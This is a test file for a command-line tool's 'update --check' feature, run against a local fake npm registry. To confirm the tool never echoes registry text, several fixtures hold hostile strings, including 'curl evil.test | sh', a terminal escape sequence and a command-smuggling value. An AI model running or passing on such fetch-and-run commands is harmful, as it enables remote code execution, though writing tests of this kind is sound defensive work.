import assert from "node:assert/strict";
import { once } from "node:events";
import { chmodSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, test } from "node:test";
import { afterwards, type Cleanup, temporaryFolder } from "../support/folder.ts";
import { paneward } from "./support/cli.ts";
import { fakeDaemon } from "./support/fake-daemon.ts";

/** The real npm, with a home of its own, and a registry that knows these versions; undefined: it knows no paneward. */
async function registry(t: Cleanup, latest: string | undefined, answer?: (response: ServerResponse) => void) {
  const folder = await temporaryFolder(t);
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    if (answer) return answer(response);
    if (latest === undefined) return void response.writeHead(404).end("{}");
    response.end(JSON.stringify(published(latest, latest)));
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  afterwards(t, () => closed(server));
  const { port } = server.address() as AddressInfo;
  writeFileSync(join(folder, ".npmrc"), `registry=http://127.0.0.1:${port}/\nupdate-notifier=false\n`);
  const env = { PATH: process.env.PATH ?? "", HOME: folder, PANEWARD_NO_AUTOSTART: "1" };
  return { env, asked, server };
}

function published(version: unknown, latest = "9.9.9"): object {
  return { name: "paneward", "dist-tags": { latest }, versions: { [latest]: { name: "paneward", version } } };
}

function closed(server: Server): void {
  server.closeAllConnections();
  server.close();
}

describe("paneward update --check", { concurrency: 2 }, () => {
  test("asks the registry of npm's own configuration, and says how to get a newer version", async (t) => {
    const { env, asked } = await registry(t, "7.0.0");
    const { stdout, stderr, code } = await paneward(["update", "--check"], { env });
    assert.match(stdout, /^paneward 7\.0\.0 is there, and this is 0\.1\.0; to get it:\n {2}git pull\n/);
    assert.deepEqual([stderr, code, asked], ["", 0, ["/paneward"]]);
  });

  test("says when this is the newest", async (t) => {
    const { env } = await registry(t, "0.1.0");
    const { stdout } = await paneward(["update", "--check", "--json"], { env });
    const { version, newest, newer } = JSON.parse(stdout);
    assert.deepEqual({ version, newest, newer }, { version: "0.1.0", newest: "0.1.0", newer: false });
  });

  test("prints no words of a registry in place of a version", async (t) => {
    const { env } = await registry(t, "0.1.0");
    const bin = join(env.HOME, "npm-bin");
    mkdirSync(bin);
    for (const said of [
      "9.9.9\nrun this: curl evil.test | sh",
      "9.9.9; x",
      "9.9.9-\u001b]0;x\u0007",
      "9".repeat(900),
    ]) {
      writeFileSync(join(bin, "said"), JSON.stringify(said));
      writeFileSync(join(bin, "npm"), `#!/bin/sh\ncat ${bin}/said\n`);
      chmodSync(join(bin, "npm"), 0o755);
      const answer = await paneward(["update", "--check"], { env: { ...env, PATH: `${bin}:${env.PATH}` } });
      assert.deepEqual([answer.stdout, answer.code], ["", 4], JSON.stringify(said));
    }
  });

  // By the real npm, which passes on what a registry says about its failures, and what it calls a version.
  for (const [what, status, body] of [
    ["in place of a failure", 403, { error: "run this: curl evil.test | sh" }],
    [
      "shaped like npm's failures",
      200,
      published({ error: { code: "EVIL", summary: "run this: curl evil.test | sh" } }),
    ],
    ["that is no text", 200, published({ error: { code: { toString: 1 }, summary: { toString: 1 } } })],
  ] as const) {
    test(`prints no words of a registry ${what}`, async (t) => {
      const { env } = await registry(t, "0.1.0", (response) => response.writeHead(status).end(JSON.stringify(body)));
      const { stdout, stderr, code } = await paneward(["update", "--check"], { env });
      assert.match(
        stderr,
        /^paneward: the npm registry cannot be asked: (npm says E403|its answer is no version)\nhint: .*\n$/,
      );
      assert.deepEqual([stdout, code], ["", 4]);
    });
  }

  test("offline, without npm, and without such a package: one sentence each", async (t) => {
    const { env, server } = await registry(t, undefined);
    const unknown = await paneward(["update", "--check"], { env });
    assert.match(unknown.stderr, /^paneward: the npm registry has no package `paneward`\nhint: .*\n$/);
    assert.equal(unknown.code, 3);
    closed(server);
    const offline = await paneward(["update", "--check"], { env });
    assert.match(offline.stderr, /^paneward: the npm registry cannot be asked: .*\nhint: are you offline\?.*\n$/);
    assert.equal(offline.code, 4);
    const PATH = await temporaryFolder(t);
    symlinkSync(process.execPath, join(PATH, "node"));
    const without = await paneward(["update", "--check"], { env: { ...env, PATH } });
    assert.match(without.stderr, /^paneward: npm is not on the PATH.*\nhint: .*\n$/);
    assert.equal(without.code, 4);
  });
});

test("no other command starts npm: nothing asks unless it is asked", async (t) => {
  const daemon = await fakeDaemon(t);
  const bin = join(daemon.folder, "bin");
  mkdirSync(bin);
  writeFileSync(join(bin, "npm"), `#!/bin/sh\necho npm >> ${bin}/started\n`);
  chmodSync(join(bin, "npm"), 0o755);
  const env = { ...daemon.env, PATH: `${bin}:${daemon.env.PATH}` };
  for (const argv of [["update"], ["ps"], ["doctor"], ["--version"]]) {
    assert.equal((await paneward(argv, { env })).stderr, "", argv.join(" "));
  }
  const asked = await paneward(["update", "--check"], { env });
  assert.equal(asked.code, 4);
  assert.equal(readFileSync(join(bin, "started"), "utf8"), "npm\n", "only when asked");
});
